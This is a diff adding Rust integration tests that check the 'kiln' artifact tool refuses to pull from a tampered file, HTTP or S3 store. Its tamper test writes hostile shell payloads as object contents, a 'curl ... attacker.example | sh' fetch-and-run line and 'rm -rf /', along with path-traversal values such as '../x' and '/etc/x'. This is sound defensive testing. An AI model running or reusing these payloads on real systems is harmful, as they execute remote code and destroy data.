@@ -212,3 +212,202 @@ fn a_push_killed_halfway_resumes_without_reuploading() {
     assert_eq!(r["uploaded"].as_u64().unwrap() + r["skipped"].as_u64().unwrap(), n);
     pull_matches(&result, &url, &[], &[]);
 }
+
+/// A store's files on disk, as whoever runs the store (or broke into it) can change them.
+struct Backdoor {
+    /// The directory holding `objects/` and `manifests/`.
+    root: PathBuf,
+}
+
+impl Backdoor {
+    fn manifest_path(&self, hash: &str) -> PathBuf {
+        self.root.join("manifests").join(format!("{hash}.json"))
+    }
+    fn manifest(&self, hash: &str) -> kiln::pipeline::Manifest {
+        serde_json::from_slice(&std::fs::read(self.manifest_path(hash)).unwrap()).unwrap()
+    }
+    fn put_object(&self, bytes: &[u8]) -> String {
+        use sha2::Digest;
+        let sha = hex::encode(sha2::Sha256::digest(bytes));
+        std::fs::write(self.root.join("objects").join(&sha), bytes).unwrap();
+        sha
+    }
+    /// Writes a manifest under `name` (any hash) exactly as kiln formats them.
+    fn put_manifest(&self, name: &str, m: &kiln::pipeline::Manifest) {
+        std::fs::write(self.manifest_path(name), kiln::pipeline::manifest_json(m)).unwrap();
+    }
+}
+
+/// `kiln pull` into a fresh store; on failure, checks that nothing was written.
+fn pull_into_fresh(url: &str, hash: &str, env: &[(&str, String)], extra: &[&str]) -> Result<(), String> {
+    let tmp = tempfile::tempdir().unwrap();
+    let store = tmp.path().join("store");
+    let mut c = kiln();
+    c.arg("pull").arg(url).arg(hash).arg("--store").arg(&store).arg("--out-link").arg(tmp.path().join("pulled")).args(extra);
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    let out = run(&mut c);
+    if out.status.success() {
+        return Ok(());
+    }
+    let left: Vec<_> = walkdir::WalkDir::new(&store).min_depth(1).into_iter().filter_map(|e| e.ok()).map(|e| e.into_path()).collect();
+    assert!(left.is_empty(), "a refused pull wrote into the store: {left:?}");
+    assert!(std::fs::symlink_metadata(tmp.path().join("pulled")).is_err(), "a refused pull made a link");
+    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
+    Err(text(&out.stderr))
+}
+
+/// The red team's attacks on a store that kiln pushed to: each pull must be refused.
+fn tampered_pulls_are_refused(result: &Path, url: &str, door: &Backdoor, env: &[(&str, String)], extra: &[&str]) {
+    let hash = manifest(result)["hash"].as_str().unwrap().to_string();
+    let original = std::fs::read(door.manifest_path(&hash)).unwrap();
+    let m = door.manifest(&hash);
+    let i = m.artifacts.iter().position(|a| a.path.ends_with("/provision.sh")).expect("a provisioner");
+
+    // 1. swap the provisioner for another object and edit the manifest to name it
+    let evil = door.put_object(b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n");
+    let mut swapped = m.clone();
+    swapped.artifacts[i].sha256 = evil.clone();
+    swapped.artifacts[i].size = 48;
+    door.put_manifest(&hash, &swapped);
+    let e = pull_into_fresh(url, &hash, env, extra).expect_err("a manifest edited in the store is refused");
+    assert!(e.contains("altered") && e.contains(&hash), "{e}");
+    std::fs::write(door.manifest_path(&hash), &original).unwrap();
+
+    // 2. the same, with the manifest's own `hash` recomputed, served under the asked-for name
+    let mut forged = swapped.clone();
+    forged.hash = kiln::pipeline::manifest_hash(&forged);
+    door.put_manifest(&hash, &forged);
+    let e = pull_into_fresh(url, &hash, env, extra).expect_err("a re-hashed manifest is not the one asked for");
+    assert!(e.contains("altered"), "{e}");
+    std::fs::write(door.manifest_path(&hash), &original).unwrap();
+
+    // 3. the object itself replaced in place, the manifest untouched
+    let sha = &m.artifacts[i].sha256;
+    let obj = door.root.join("objects").join(sha);
+    let good = std::fs::read(&obj).unwrap();
+    std::fs::write(&obj, b"#!/bin/sh\nrm -rf /\n").unwrap();
+    let e = pull_into_fresh(url, &hash, env, extra).expect_err("an altered object is refused");
+    assert!(e.contains(sha.as_str()) && e.contains("altered"), "{e}");
+    std::fs::write(&obj, &good).unwrap();
+
+    // 4. a self-consistent manifest (its hash is right) whose paths leave the store entry
+    for bad in ["../x", "/etc/x", "hosts/../../x", "", "a\nb", "SYSTEM.md/../../x"] {
+        let mut m2 = m.clone();
+        let sys = m2.artifacts.iter_mut().find(|a| a.host.is_none()).expect("a system artifact");
+        sys.path = bad.to_string();
+        m2.hash = kiln::pipeline::manifest_hash(&m2);
+        door.put_manifest(&m2.hash, &m2);
+        let e = pull_into_fresh(url, &m2.hash, env, extra).expect_err("a path outside the entry is refused");
+        assert!(e.contains("not a plain relative path") || e.contains("outside its entry"), "{bad:?}: {e}");
+    }
+    let mut m3 = m.clone();
+    m3.system = "../../escape".into();
+    m3.hash = kiln::pipeline::manifest_hash(&m3);
+    door.put_manifest(&m3.hash, &m3);
+    let e = pull_into_fresh(url, &m3.hash, env, extra).expect_err("a system name with a path is refused");
+    assert!(e.contains("not a plain name"), "{e}");
+
+    // and the untouched closure still pulls
+    pull_matches(result, url, env, extra);
+}
+
+#[test]
+fn pull_refuses_a_tampered_file_store() {
+    let tmp = tempfile::tempdir().unwrap();
+    let result = fleet(tmp.path(), 2);
+    let dir = tmp.path().join("remote");
+    let url = format!("file://{}", dir.display());
+    push(&result, &url, &[], &[]).unwrap();
+    tampered_pulls_are_refused(&result, &url, &Backdoor { root: dir }, &[], &[]);
+}
+
+#[test]
+fn pull_refuses_a_tampered_http_and_s3_store() {
+    let srv = Servers::start();
+    let tmp = tempfile::tempdir().unwrap();
+    let result = fleet(tmp.path(), 2);
+    let url = srv.s("http", "url");
+    let auth = [("KILN_STORE_USER", srv.s("http", "user")), ("KILN_STORE_PASSWORD", srv.s("http", "password"))];
+    push(&result, &url, &auth, &[]).unwrap();
+    tampered_pulls_are_refused(&result, &url, &Backdoor { root: PathBuf::from(srv.s("http", "root")) }, &[], &[]);
+
+    let s3 = format!("s3://{}/tamper", srv.s("s3", "bucket"));
+    let creds = [
+        ("AWS_ACCESS_KEY_ID", srv.s("s3", "access_key")),
+        ("AWS_SECRET_ACCESS_KEY", srv.s("s3", "secret_key")),
+        ("AWS_REGION", srv.s("s3", "region")),
+    ];
+    let endpoint = srv.s("s3", "endpoint");
+    push(&result, &s3, &creds, &["--endpoint", &endpoint]).unwrap();
+    let door = Backdoor { root: PathBuf::from(srv.s("s3", "root")).join("tamper") };
+    tampered_pulls_are_refused(&result, &s3, &door, &creds, &["--endpoint", &endpoint]);
+}
+
+/// Runs `kiln push` and returns its exit code, stderr and how long it took.
+fn push_timed(result: &Path, url: &str, env: &[(&str, String)], extra: &[&str]) -> (Option<i32>, String, Duration) {
+    let start = Instant::now();
+    let mut c = kiln();
+    c.arg("push").arg(url).arg("--from").arg(result).args(extra);
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    let out = run(&mut c);
+    (out.status.code(), text(&out.stderr), start.elapsed())
+}
+
+#[test]
+fn push_fails_fast_on_what_retrying_cannot_fix() {
+    let tmp = tempfile::tempdir().unwrap();
+    let result = fleet(tmp.path(), 2);
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = closed.local_addr().unwrap().port();
+    drop(closed);
+    for (url, says) in
+        [(format!("http://127.0.0.1:{port}/store"), "refused"), ("http://kiln-test-no-such-host.invalid/store".to_string(), "dns error")]
+    {
+        let (code, err, took) = push_timed(&result, &url, &[], &[]);
+        assert_eq!(code, Some(2), "{url}: {err}");
+        assert!(err.contains(says), "{url}: the cause is named: {err}");
+        assert!(!err.contains("retrying"), "{url}: no retries: {err}");
+        assert!(took < Duration::from_secs(5), "{url}: failed after {took:?}");
+    }
+
+    let srv = Servers::start();
+    let (code, err, took) = push_timed(&result, &srv.s("http", "url"), &[], &[]);
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("401") && err.contains("KILN_STORE_USER"), "{err}");
+    assert!(!err.contains("retrying") && took < Duration::from_secs(5), "{err} after {took:?}");
+    let s3 = format!("s3://{}/x", srv.s("s3", "bucket"));
+    let creds = [("AWS_ACCESS_KEY_ID", srv.s("s3", "access_key")), ("AWS_SECRET_ACCESS_KEY", "wrong".to_string())];
+    let (code, err, took) = push_timed(&result, &s3, &creds, &["--endpoint", &srv.s("s3", "endpoint")]);
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("403") && !err.contains("retrying") && took < Duration::from_secs(5), "{err} after {took:?}");
+}
+
+#[test]
+fn push_and_pull_json_name_the_hash_and_the_url() {
+    let tmp = tempfile::tempdir().unwrap();
+    let result = fleet(tmp.path(), 2);
+    let dir = tmp.path().join("remote");
+    let url = format!("file://{}", dir.display());
+    let hash = manifest(&result)["hash"].as_str().unwrap().to_string();
+    let out = push(&result, &url, &[], &[]).unwrap();
+    assert_eq!(out["hash"], hash.as_str(), "{out}");
+    assert_eq!(out["manifest"], dir.join(format!("manifests/{hash}.json")).display().to_string(), "{out}");
+    let pulled = run(kiln()
+        .arg("pull")
+        .arg(&url)
+        .arg(&hash)
+        .arg("--json")
+        .arg("--store")
+        .arg(tmp.path().join("s2"))
+        .arg("--out-link")
+        .arg(tmp.path().join("p")));
+    assert!(pulled.status.success(), "{}", text(&pulled.stderr));
+    let j: Value = serde_json::from_slice(&pulled.stdout).expect("JSON on stdout");
+    assert_eq!(j["hash"], hash.as_str());
+    assert_eq!(j["system"], "fleet");
+    assert!(j["path"].as_str().unwrap().ends_with("-fleet"), "{j}");
+}
